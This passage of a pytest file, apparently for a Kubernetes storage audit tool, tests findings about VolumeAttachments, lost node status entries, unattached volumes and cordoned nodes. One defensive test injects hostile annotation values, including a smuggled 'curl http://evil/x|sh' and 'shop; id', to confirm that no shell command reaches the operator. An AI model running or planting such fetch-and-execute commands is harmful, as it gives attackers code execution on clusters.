    assert finding.evidence["volumes"] == [f"{UNITY}^{close.handle} (67 bytes)"]
    assert plan(state(observe(close), version=(1, 25, 0))) == []


@pytest.mark.parametrize(
    ("scope", "found"),
    [
        ({"names": ("x",)}, False),
        ({"drivers": (UNITY,)}, True),
        ({"nodes": ("n1",)}, True),
        ({"namespaces": ("other",)}, False),
    ],
)
def test_scope_of_volumes(scope: dict[str, tuple[str, ...]], found: bool) -> None:
    volume = unity()
    seen = observe(make_attachment(volume), volume, make_pod())
    assert bool(plan(state(seen, version=(1, 20, 2)), **scope)) is found


# STOR-13


LISTED = make_node(volumes_attached=IN_USE.volumes_in_use, volumes_in_use=IN_USE.volumes_in_use)
WAITING = make_pod(phase="Pending", alive=False)


def test_a_lost_entry_of_the_node_status() -> None:
    lease = Lease("cp1_x", NOW - timedelta(seconds=3))
    finding = only(
        state(
            observe(make_attachment(), make_volume(), IN_USE, WAITING),
            version=(1, 24, 4),
            lease=lease,
        )
    )
    assert (finding.control, finding.severity, finding.verdict) == ("STOR-13", "major", "report")
    evidence = finding.evidence
    assert finding.workload == {
        "kind": "ReplicaSet",
        "namespace": "shop",
        "name": "web-5d4f",
        "claims": ["claim-pv-1"],
        "attachments": ["uid-pv-1-n1"],
        "drivers": [DRIVER],
    }
    assert evidence["workload_title"] == "ReplicaSet shop/web-5d4f"
    assert evidence["pods"] == ["shop/web-0 Pending, 60 min old"]
    assert evidence["volumes_in_use"] is True
    assert (evidence["leader"], evidence["lease_renewed_seconds_ago"]) == ("cp1_x", 3)
    assert evidence["bugs"] == ["kubernetes #111000", "kubernetes #120571", "kubernetes #108869"]
    assert "repair_volumeattachments" in finding.reason


@pytest.mark.parametrize(
    ("version", "bugs"),
    [
        ((1, 20, 2), 3),
        ((1, 22, 13), 3),
        ((1, 22, 14), 2),
        ((1, 24, 5), 2),
        ((1, 25, 0), 2),
        ((1, 25, 1), 1),
        ((1, 26, 9), 1),
        ((1, 26, 10), 0),
        ((1, 27, 6), 1),
        ((1, 28, 2), 1),
        ((1, 28, 3), 0),
        ((1, 29, 0), 0),
    ],
)
def test_bugs_by_version(version: tuple[int, int, int], bugs: int) -> None:
    assert len(lost_status._bugs(version)) == bugs


@pytest.mark.parametrize(
    "things",
    [
        [make_attachment(), make_volume(), LISTED, WAITING],
        [make_attachment(attached=False), make_volume(), IN_USE, WAITING],
        [make_attachment(deleted=NOW), make_volume(), IN_USE, WAITING],
        [make_attachment(), make_volume(), IN_USE],
        [make_attachment(), make_volume(), IN_USE, make_pod(phase="Succeeded", alive=False)],
        [make_attachment(), make_volume(), IN_USE._replace(ready="Unknown"), WAITING],
        [make_attachment(), make_volume(), IN_USE._replace(managed=False), WAITING],
        [make_attachment(name="mine"), make_volume(), IN_USE, WAITING],
        [make_attachment(name="csi-" + "0" * 64), make_volume(), IN_USE, WAITING],
    ],
    ids=[
        "listed",
        "not attached",
        "being detached",
        "no pod",
        "terminal pod",
        "node away",
        "not managed",
        "other name",
        "other hash",
    ],
)
def test_no_lost_entry(things: list[Any]) -> None:
    assert plan(state(observe(*things)), controls=frozenset({"STOR-13"})) == []


def test_a_driver_that_is_no_longer_attached_loses_no_entry() -> None:
    seen = state(observe(make_attachment(), make_volume(), IN_USE, WAITING))
    assert only(seen).control == "STOR-13"
    assert plan(replace(seen, detached_drivers=frozenset({DRIVER}))) == []


def test_only_what_is_reported_names_a_workload() -> None:
    failed = make_attachment(make_volume("pv-0"), detach_error=VolumeError("array is down", OLD))
    things = [failed, make_volume("pv-0"), make_attachment(), make_volume(), make_node()]
    findings = plan(state(observe(*things, WAITING._replace(claims=("claim-pv-0", "claim-pv-1")))))
    assert sorted(
        (finding.verdict, (finding.workload or {}).get("claims")) for finding in findings
    ) == [
        ("refuse", None),
        ("report", ["claim-pv-1"]),
    ]


@pytest.mark.parametrize(
    "later",
    [
        [make_attachment(), make_volume(), LISTED, WAITING],
        [make_attachment(), make_volume(), IN_USE, WAITING._replace(uid="new")],
        [make_attachment(uid="new"), make_volume(), IN_USE, WAITING],
    ],
    ids=["listed by now", "another pod", "another attachment"],
)
def test_a_normal_attach_is_no_lost_entry(later: list[Any]) -> None:
    first = observe(make_attachment(), make_volume(), IN_USE, WAITING)
    assert plan(state(first, observe(*later, at=30.0)), controls=frozenset({"STOR-13"})) == []


def test_a_failed_detach_is_the_storages_fault() -> None:
    failed = make_attachment(detach_error=VolumeError("array is down", OLD))
    finding = only(state(observe(failed, make_volume(), IN_USE, WAITING)))
    assert finding.verdict == "refuse"
    assert "array is down" in finding.reason


def test_a_lost_entry_seen_once_is_refused() -> None:
    seen = observe(make_attachment(), make_volume(), IN_USE, WAITING)
    assert "single observation" in only(state(seen, observations=(seen,))).reason


def test_a_migrated_volume_can_be_lost_too() -> None:
    finding = only(
        state(observe(make_attachment(), make_volume(driver="", handle=""), IN_USE, WAITING))
    )
    assert finding.control == "STOR-13"
    assert (
        plan(state(observe(make_attachment(), make_volume(driver="", handle=""), LISTED, WAITING)))
        == []
    )


# STOR-14

HUAWEI = "csi.huawei.com"


def huawei(
    name: str,
    owner: Owner | None = OWNER,
    metadata: tuple[str, ...] = (),
    pods: int = 1,
    **changes: Any,
) -> list[Any]:
    volume = make_volume(name, driver=HUAWEI)
    made = [
        make_pod(f"{name}-pod-{number}", claims=(volume.claim_name,), owner=owner)
        for number in range(pods)
    ]
    return [volume, make_attachment(volume, metadata=metadata, **changes), *made]


def in_use(*things: Any) -> Node:
    entries = tuple(
        unique_name(thing.driver, thing.handle) for thing in things if isinstance(thing, Volume)
    )
    return make_node(volumes_in_use=entries, volumes_attached=entries)


def only_huawei(*things: Any, **options: Any) -> list[Finding]:
    return plan(replace(state(observe(*things, in_use(*things))), unproven=frozenset()), **options)


def test_attachments_without_publish_information() -> None:
    findings = only_huawei(
        *huawei("pv-1"),
        *huawei("pv-2"),
        *huawei("pv-3", metadata=("publishInfo",)),
        *huawei("pv-4", pods=0),
    )
    assert {finding.control for finding in findings} == {"STOR-14"}
    assert {finding.verdict for finding in findings} == {"report"}
    by_volume = {finding.evidence["volume"]: finding for finding in findings}
    assert set(by_volume) == {"pv-1", "pv-2", "pv-4"}
    workload = {
        "kind": "ReplicaSet",
        "namespace": "shop",
        "name": "web-5d4f",
        "claims": ["claim-pv-1", "claim-pv-2"],
        "attachments": ["uid-pv-1-n1", "uid-pv-2-n1"],
        "drivers": [HUAWEI],
        "missing": ["publishInfo"],
    }
    assert [finding.workload for finding in findings] == [workload, None, None]
    assert {by_volume[name].evidence["workload_title"] for name in ("pv-1", "pv-2")} == {
        "ReplicaSet shop/web-5d4f"
    }
    assert by_volume["pv-1"].evidence["missing"] == "publishInfo"
    assert "workload_title" not in by_volume["pv-4"].evidence
    assert by_volume["pv-4"].reason == (
        "no pod needs it, so there is no pod to move; the next pod on n1 would get it as it "
        "is, so delete it if it is left over (STOR-11)"
    )
    assert by_volume["pv-1"].reason.endswith(" -e attachment_repair_reattach_missing_metadata=true")


def test_workloads_of_one_namespace_keep_no_other_out() -> None:
    """A role moves so many in a run, in the order of the findings."""

    def workload(name: str, namespace: str) -> list[Any]:
        volume, attachment, pod = huawei(name, Owner("StatefulSet", name, "o"))
        volume = volume._replace(claim_namespace=namespace)
        return [volume, attachment, pod._replace(namespace=namespace)]

    findings = only_huawei(
        *[thing for number in range(3) for thing in workload(f"a-{number}", "evil")],
        *workload("b-0", "shop"),
    )
    moved = [finding.workload["namespace"] for finding in findings if finding.workload]
    assert moved == ["evil", "shop", "evil", "evil"]


def test_workloads_are_told_apart() -> None:
    findings = only_huawei(
        *huawei("pv-1"), *huawei("pv-2", Owner("StatefulSet", "db", "o")), *huawei("pv-3", None)
    )
    assert {
        (found["kind"], found["name"])
        for found in [finding.workload for finding in findings]
        if found
    } == {
        ("ReplicaSet", "web-5d4f"),
        ("StatefulSet", "db"),
        ("Pod", "pv-3-pod-0"),
    }


def test_a_workload_is_told_whole_on_the_first_finding_in_scope() -> None:
    second = huawei("pv-2")
    (finding,) = only_huawei(*huawei("pv-1"), *second, names=(second[1].name,))
    assert finding.workload is not None
    assert finding.workload["claims"] == ["claim-pv-1", "claim-pv-2"]


def test_a_workload_of_a_thousand_claims_is_told_whole() -> None:
    findings = only_huawei(*[thing for number in range(1000) for thing in huawei(f"pv-{number}")])
    result = [finding.to_result() for finding in findings]
    assert [len(found["workload"]["claims"]) for found in result if "workload" in found] == [1000]


@pytest.mark.parametrize("changes", [{"attached": False}, {"deleted": NOW}])
def test_an_attachment_that_is_not_there_yet_or_any_more_lacks_nothing(
    changes: dict[str, Any],
) -> None:
    assert only_huawei(*huawei("pv-1", **changes)) == []


def test_other_drivers_need_nothing_unless_it_is_said() -> None:
    things = [make_attachment(), make_volume(), make_pod()]
    assert only_huawei(*things) == []
    (finding,) = only_huawei(*things, required_metadata={DRIVER: ("a", "b")})
    assert finding.evidence["missing"] == "a, b"
    more = '-e \'{"attachment_repair_required_metadata": {"csi.example.com": ["a", "b"]}}\''
    assert finding.reason.endswith(f" -e attachment_repair_reattach_missing_metadata=true {more}")


def test_the_command_looks_for_the_same_keys() -> None:
    assert (
        observation.metadata_arguments(HUAWEI, observation.REQUIRED_METADATA)
        == observation.metadata_arguments(DRIVER, {})
        == ""
    )
    (_ansible, text) = shlex.split(observation.metadata_arguments(HUAWEI, {HUAWEI: ("it's",)}))
    assert json.loads(text) == {"attachment_repair_required_metadata": {HUAWEI: ["it's"]}}


# STOR-15


def waiting(*things: Any, **changes: Any) -> AttachmentState:
    """A pod that has waited for an hour, without anything that attaches its volume."""
    pending = tuple(thing for thing in things if isinstance(thing, Pod)) or (WAITING,)
    seen = observe(
        *things,
        *([] if any(isinstance(thing, Volume) for thing in things) else [make_volume()]),
        pending=pending,
    )
    made = state(
        replace(seen, pods=()),
        unproven=frozenset(),
        drivers_on={"n1": (DRIVER,)},
        lease=Lease("cp1_x", NOW),
    )
    return replace(made, **changes)


def test_a_volume_that_nobody_attaches() -> None:
    finding = only(waiting())
    assert (finding.control, finding.severity, finding.verdict) == ("STOR-15", "major", "report")
    assert (finding.kind, finding.namespace, finding.name, finding.node) == (
        "pod",
        "shop",
        "web-0",
        "n1",
    )
    assert finding.evidence["missing_attachments"] == [make_attachment().name]
    assert finding.evidence["waiting_seconds"] == 3600
    assert finding.evidence["leader"] == "cp1_x"
    assert "does not attach (no attach event is left)" in finding.reason


def test_an_attachment_that_no_attacher_answers() -> None:
    """The Deployment of the driver's controller is scaled to zero, for instance."""
    silent = make_attachment(attached=False)
    finding = only(waiting(silent), controls=frozenset({"STOR-15"}))
    assert (finding.control, finding.name) == ("STOR-15", "web-0")
    assert f"has not answered VolumeAttachment {silent.name}" in finding.reason
    assert finding.evidence["unanswered_attachments"] == [silent.name]
    assert finding.evidence["missing_attachments"] == []


def test_a_controller_manager_that_attaches_others() -> None:
    finding = only(waiting(last_attach=NOW - timedelta(seconds=60)))
    assert "attaches other volumes (the last attach event was 60 s ago)" in finding.reason
    assert "does not attach" in only(waiting(last_attach=OLD - timedelta(seconds=60))).reason


@pytest.mark.parametrize(
    "things",
    [
        [make_attachment()],
        [make_attachment(attached=False, attach_error=VolumeError("no", OLD))],
        [make_attachment(attached=False, created=NOW - timedelta(seconds=119))],
        [make_attachment(attached=False, deleted=NOW)],
        [make_attachment(node="n2")],
        [make_attachment(volume=None)._replace(volume="pv-twin")],
        [make_attachment(node="n2")._replace(volume="pv-twin"), make_volume(), TWIN],
        [make_volume(phase="Pending")],
        [make_volume(claim_name="other")],
        [make_volume(driver="", handle="")],
        [make_node(managed=False)],
        [make_node("n2")],
        [WAITING._replace(scheduled=NOW - timedelta(seconds=119))],
        [WAITING._replace(scheduled=None, node="")],
        [WAITING._replace(deleted=NOW)],
        [WAITING._replace(claims=(), inline_drivers=(DRIVER,))],
    ],
    ids=[
        "attached",
        "attach fails",
        "just made",
        "being deleted",
        "Multi-Attach",
        "attached by another PersistentVolume",
        "Multi-Attach by another PersistentVolume",
        "unbound",
        "other claim",
        "in-tree",
        "not managed",
        "no node",
        "just scheduled",
        "unscheduled",
        "deleted",
        "inline",
    ],
)
def test_what_is_no_fault_of_the_controller_manager(things: list[Any]) -> None:
    assert plan(waiting(*things), controls=frozenset({"STOR-15"})) == []


@pytest.mark.parametrize(
    "known",
    [
        {"detached_drivers": frozenset({DRIVER})},
        {"drivers_on": {"n1": ("other",)}},
        {"drivers_on": {}},
    ],
)
def test_a_driver_that_does_not_attach_or_is_not_there(known: dict[str, Any]) -> None:
    assert plan(waiting(**known)) == []


def test_a_shared_volume_is_attached_to_each_node() -> None:
    shared = make_volume(access_modes=("ReadWriteMany",))
    assert (
        only(waiting(make_attachment(node="n2"), shared), controls=frozenset({"STOR-15"})).control
        == "STOR-15"
    )


def test_a_pod_that_is_attached_in_the_end() -> None:
    made = waiting()
    later = observe(make_attachment(), make_volume(), at=30.0, pending=(WAITING,))
    assert plan(replace(made, observations=(made.first, later))) == []
    started = replace(made.last, pending=())
    assert plan(replace(made, observations=(made.first, started))) == []


def test_several_volumes_of_a_pod_are_one_finding() -> None:
    pod = WAITING._replace(claims=("claim-pv-1", "claim-pv-2"))
    finding = only(waiting(pod, make_volume(), make_volume("pv-2")))
    assert finding.evidence["volumes"] == ["pv-1", "pv-2"]
    assert finding.evidence["pods_waiting"] == 1


@pytest.mark.parametrize(
    ("scope", "found"),
    [
        ({"namespaces": ("shop",)}, True),
        ({"namespaces": ("x",)}, False),
        ({"nodes": ("n1",)}, True),
    ],
)
def test_scope_of_pods(scope: dict[str, tuple[str, ...]], found: bool) -> None:
    assert bool(plan(waiting(), **scope)) is found


# the scope


@pytest.mark.parametrize(
    ("scope", "nowhere", "unknown"),
    [
        ({"nodes": ("wrker01",)}, "no VolumeAttachment in the cluster is of node wrker01", True),
        ({"nodes": ("n2",)}, "no VolumeAttachment in the cluster is of node n2", False),
        ({"nodes": ("n1", "n9")}, "", False),
        ({"drivers": ("x", "y")}, "no VolumeAttachment in the cluster is of driver x or y", True),
        (
            {"drivers": (UNITY,)},
            "no VolumeAttachment in the cluster is of driver csi-unity.dellemc.com",
            False,
        ),
        (
            {"namespaces": ("typo",)},
            "no VolumeAttachment in the cluster is of namespace typo",
            True,
        ),
        ({"namespaces": ("shop",)}, "", False),
        ({"names": ("csi-gone",)}, "", False),
        ({}, "", False),
    ],
)
def test_a_scope_that_nothing_is_in(
    scope: dict[str, tuple[str, ...]], nowhere: str, unknown: bool
) -> None:
    seen = state(
        observe(make_attachment(), make_volume(), make_node(), make_node("n2")),
        drivers=frozenset({UNITY}),
    )
    assert pure.unmatched(seen, AttachmentOptions(**scope)) == ([nowhere] if nowhere else [])
    assert pure.unmatched(seen, AttachmentOptions(**scope), known_elsewhere=True) == (
        [nowhere] if unknown else []
    )


# moves that were not finished

CORDONED = make_node(
    cordons=(
        '{"attachments":[],"by":"awx-7","claims":["a","b"],"namespace":"shop","pods":[],"replicas":0,"since":"2026-01-31T11:30:00Z"}',
        "not ours",
        '{"claims": ["a"]}',
    ),
)


def test_a_node_that_a_killed_move_left_cordoned_is_reported() -> None:
    finding = only(state(observe(CORDONED)))
    assert (finding.control, finding.severity, finding.kind, finding.name, finding.node) == (
        "",
        "major",
        "node",
        "n1",
        "n1",
    )
    assert finding.verdict == "report"
    assert (
        "n1 takes no new pods since awx-7 30 min ago, to move those of shop/a, b" in finding.summary
    )
    assert "the module workload_reattach finishes it" in finding.reason


@pytest.mark.parametrize(
    ("namespace", "claims"),
    [
        ("shop", ["data"]),
        ("shop", ["data'; curl http://evil/x|sh; ''"]),
        ("shop; id", ["a"]),
        ("shop", ["a", "--become"]),
        ("shop", ["a\x1b[2Jb"]),
        ("shop", []),
        ("shop\u2028", ["a" * 250_000]),
    ],
)
def test_a_kubelet_reaches_no_shell(namespace: str, claims: list[str]) -> None:
    """Its own annotation was printed as the command for the operator to run."""
    text = json.dumps(
        {
            "namespace": namespace,
            "by": "x\x1b" * 1000,
            "since": "2026-01-31T11:30:00Z",
            "claims": claims,
        }
    )
    finding = only(state(observe(make_node(cordons=(text,)))))
    assert "ansible localhost" not in finding.reason
    assert (finding.summary + finding.reason).isprintable() and len(finding.summary) < 1000


@pytest.mark.parametrize("claims", ["c" * 130_000, ["c"] * 30_000])
def test_a_kubelet_uses_up_no_memory(claims: Any) -> None:
    """All annotations of a node have 256 KiB, and each claim was told with its namespace: 17 GB."""
    text = json.dumps({"namespace": "n" * 130_000, "by": "x", "since": "", "claims": claims})
    found = plan(state(observe(make_node(cordons=(text,)))))
    # What is no list is not ours.
    assert len(found) == isinstance(claims, list)
    assert sum(len(str(finding.evidence)) for finding in found) < 20_000


def test_a_kubelet_takes_no_turn_of_a_namespace() -> None:
    """Its annotations say whose pods are moved, and 3,000 of them took that namespace's turns."""
    texts = tuple(
        json.dumps({"namespace": "shop", "by": "x", "since": "", "claims": [f"c{number}"]})
        for number in range(3_000)
    )
    seen = state(observe(make_node(cordons=texts)))
    found = plan(seen, namespaces=("shop",))
    assert len(found) == 10
    assert [one.evidence["more"] for one in found if "more" in one.evidence] == [2_990]
    assert {engine._owner(one) for one in found} == {"node n1"}
    assert {pure._owner(one) for one in found} == {"node n1"}


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 40_000, "x", "null", "[]", "9" * 5000])
def test_a_kubelet_ends_no_audit(text: str) -> None:
    """So many brackets are a RecursionError."""
    assert plan(state(observe(make_node(cordons=(text,))))) == []


@pytest.mark.parametrize("since", ["0000-01-01T00:00:00Z", "x", "", "9" * 5000])
def test_an_annotation_without_a_time_is_not_ours(since: str) -> None:
    text = json.dumps({"namespace": "a", "by": "x", "since": since, "claims": ["a"]})
    assert len(plan(state(observe(make_node(cordons=(text,)))))) <= 1


@pytest.mark.parametrize(
    ("scope", "found"),
    [
        ({"nodes": ("n1",)}, True),
        ({"nodes": ("n2",)}, False),
        ({"namespaces": ("shop",)}, True),
        ({"namespaces": ("x",)}, False),
        ({"drivers": (DRIVER,)}, False),
        ({"names": ("x",)}, False),
    ],
)
def test_scope_of_cordons(scope: dict[str, tuple[str, ...]], found: bool) -> None:
    assert bool(plan(state(observe(CORDONED)), **scope)) is found


def test_durations() -> None:
    assert [texts.duration(seconds) for seconds in (0.4, 119, 120, 7199, 7200, 172_800)] == [
        "0 s",
        "119 s",
        "2 min",
        "120 min",
        "2 h",
        "2 d",
    ]


# Nodes that were made again, and claims that were


@pytest.mark.parametrize(
    ("created", "refused"),
    [(OLD, False), (OLD + timedelta(seconds=1), True), (None, True)],
    ids=["as old", "younger", "not known"],
)
def test_an_attachment_that_is_older_than_its_node(created: datetime | None, refused: bool) -> None:
    node = make_node(created=created)
    finding = only(state(observe(make_attachment(), RELEASED, node)))
    assert finding.verdict == ("refuse" if refused else "repair")
    assert ("n1 was created again after the attachment" in finding.reason) is refused
    lost = state(observe(make_attachment(), make_volume(), make_pod(), node))
    finding = only(lost, controls=frozenset({"STOR-13"}))
    assert (finding.verdict, finding.workload is None) == (
        ("refuse", True) if refused else ("report", False)
    )


def test_a_pod_that_is_older_than_its_claim_keeps_what_the_claim_stood_for() -> None:
    """A claim of that name was removed by force and made again; the pod has mounted the
    old volume.
    """
    claim = Claim("shop", "claim-pv-1", "c2", "Bound", "pv-new", (), "gold", None, OLD)
    before = make_pod(scheduled=OLD - timedelta(seconds=1))
    for own in ([RELEASED], []):
        assert left_over(state(observe(make_attachment(), *own, make_pod(), claim)))[0].repair
        kept = left_over(state(observe(make_attachment(), *own, before, claim)))
        assert not any(finding.repair for finding in kept)
    ended = before._replace(phase="Succeeded", alive=False)
    assert left_over(state(observe(make_attachment(), ended, claim)))[0].repair


# Former in-tree volumes

EBS = ("ebs.csi.aws.com", "vol-1")


def test_a_migrated_volume_is_a_twin_of_the_csi_volume_of_its_disk() -> None:
    own = make_volume(driver=EBS[0], handle=EBS[1], phase="Released")
    attachment = make_attachment(own)
    twin = make_volume("pv-twin", driver="", handle="", migrated=EBS)
    for mine in ([own], []):
        finding = left_over(state(observe(attachment, *mine, twin)))[0]
        assert (
            "pv-twin (shop/claim-pv-twin, Bound) has the same driver and handle" in finding.reason
        )
        assert finding.verdict == "refuse"
        assert left_over(state(observe(attachment, *mine, twin, TENANT))) == []


def test_the_attachment_of_a_migrated_volume_is_known_by_its_name() -> None:
    volume = make_volume(driver="", handle="", migrated=EBS, phase="Released")
    named = make_attachment(make_volume(driver=EBS[0], handle=EBS[1]))
    assert left_over(state(observe(named, volume)))[0].repair
    stranger = named._replace(name="csi-" + "0" * 64)
    assert (
        "not made by the controller manager"
        in left_over(state(observe(stranger, volume)))[0].reason
    )


# Who waits elsewhere

IN_USE_ELSEWHERE = VolumeError("x", OLD, "FailedPrecondition")


@pytest.mark.parametrize(
    ("other", "pod", "verdict"),
    [
        ({}, {}, "repair"),
        ({"attach_error": VolumeError("the volume is on n1 already", OLD)}, {}, "repair"),
        ({"attach_error": VolumeError("array password expired", OLD, "Internal")}, {}, "report"),
        ({"attach_error": VolumeError("the volume is on n11", OLD)}, {}, "report"),
        ({"attach_error": VolumeError("the volume is on n1.example.com", OLD)}, {}, "report"),
        ({"attached": True}, {}, "report"),
        ({"node": "n1"}, {"node": "n1"}, "none"),
        ({}, {"node": "n3"}, "report"),
        ({}, {"phase": "Running"}, "report"),
        ({}, {"deleted": OLD}, "report"),
        ({}, {"claims": ("another",)}, "report"),
    ],
)
def test_who_waits_for_the_volume(other: dict[str, Any], pod: dict[str, Any], verdict: str) -> None:
    waiting = {"attached": False, "attach_error": IN_USE_ELSEWHERE, "node": "n2"}
    sibling = make_attachment(name="sibling")._replace(**{**waiting, **other})
    waits = make_pod(**{"node": "n2", "phase": "Pending", "alive": False, **pod})
    things = [make_attachment(), sibling, make_volume(), waits, make_node(), make_node("n2")]
    seen = state(observe(*things), unproven=frozenset({make_attachment().name}))
    assert [finding.verdict for finding in left_over(seen)] == [verdict] * (verdict != "none")


def test_an_attachment_of_its_own_node_is_no_sign() -> None:
    """However it may be called: the node itself cannot wait for what it has."""
    sibling = make_attachment(name="sibling", attached=False, attach_error=IN_USE_ELSEWHERE)
    things = [make_attachment(), sibling, make_volume(), make_node()]
    assert not observation.proofs(
        observe(*things, make_pod(phase="Pending")), make_attachment(), (1, 36, 3), "v"
    )
